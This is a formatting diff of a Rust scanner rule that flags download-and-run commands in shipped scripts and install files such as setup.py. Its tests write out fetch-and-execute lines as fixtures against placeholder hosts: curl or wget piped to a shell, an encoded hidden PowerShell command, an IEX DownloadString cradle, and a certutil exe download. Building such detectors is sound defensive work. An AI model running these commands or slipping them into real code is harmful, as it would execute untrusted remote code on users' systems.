@@ -80,7 +80,10 @@ pub fn check(cx: &FileCx<'_>, out: &mut Emitter<'_>) {
     if script || cx.raw_pass {
         for (n, line) in cx.text_lines() {
             let t = line.trim_start();
-            if t.starts_with('#') || t.to_ascii_lowercase().starts_with("rem ") || t.starts_with("::") {
+            if t.starts_with('#')
+                || t.to_ascii_lowercase().starts_with("rem ")
+                || t.starts_with("::")
+            {
                 continue;
             }
             let Some(idx) = matches(line) else { continue };
@@ -93,7 +96,14 @@ pub fn check(cx: &FileCx<'_>, out: &mut Emitter<'_>) {
             } else {
                 Severity::Medium
             };
-            out.emit(&INFO, sev, Confidence::Medium, n, "download-and-run command in a shipped script", None);
+            out.emit(
+                &INFO,
+                sev,
+                Confidence::Medium,
+                n,
+                "download-and-run command in a shipped script",
+                None,
+            );
         }
     }
 }
@@ -109,8 +119,13 @@ mod tests {
         assert!(matches("curl -fsSL https://x.example.invalid/i.sh | bash").is_some());
         assert!(matches("wget -qO- http://192.0.2.1/a | sudo sh").is_some());
         assert!(matches("powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA").is_some());
-        assert!(matches("IEX (New-Object Net.WebClient).DownloadString('http://x.example.invalid')").is_some());
-        assert!(matches("certutil -urlcache -split -f http://x.example.invalid/a.exe a.exe").is_some());
+        assert!(matches(
+            "IEX (New-Object Net.WebClient).DownloadString('http://x.example.invalid')"
+        )
+        .is_some());
+        assert!(
+            matches("certutil -urlcache -split -f http://x.example.invalid/a.exe a.exe").is_some()
+        );
         assert!(matches("curl -o /tmp/a http://x.example.invalid/a && chmod +x /tmp/a").is_some());
         assert!(matches("curl --version").is_none());
         assert!(matches("git log | sh-like").is_none());
@@ -120,14 +135,34 @@ mod tests {
     #[test]
     fn python_string_at_install_is_critical() {
         let src = "import os\nos.system('curl https://x.example.invalid/s | sh')\n";
-        assert_eq!(worst("shell-downloader", "pkg-1.0/setup.py", src), Some(Severity::Critical));
-        assert_eq!(worst("shell-downloader", "pkg/tests/test_x.py", src), Some(Severity::Low));
+        assert_eq!(
+            worst("shell-downloader", "pkg-1.0/setup.py", src),
+            Some(Severity::Critical)
+        );
+        assert_eq!(
+            worst("shell-downloader", "pkg/tests/test_x.py", src),
+            Some(Severity::Low)
+        );
     }
 
     #[test]
     fn scripts_and_docstrings() {
-        assert_eq!(worst("shell-downloader", "pkg-1.0/tools/get.sh", "#!/bin/sh\ncurl https://x.example.invalid | sh\n"), Some(Severity::Medium));
-        assert_eq!(worst("shell-downloader", "pkg-1.0/tools/get.sh", "#!/bin/sh\n# curl https://x.example.invalid | sh\n"), None);
+        assert_eq!(
+            worst(
+                "shell-downloader",
+                "pkg-1.0/tools/get.sh",
+                "#!/bin/sh\ncurl https://x.example.invalid | sh\n"
+            ),
+            Some(Severity::Medium)
+        );
+        assert_eq!(
+            worst(
+                "shell-downloader",
+                "pkg-1.0/tools/get.sh",
+                "#!/bin/sh\n# curl https://x.example.invalid | sh\n"
+            ),
+            None
+        );
         let doc = "def f():\n    \"\"\"Install with: curl https://example.invalid | sh\"\"\"\n";
         assert_eq!(worst("shell-downloader", "pkg/a.py", doc), None);
     }
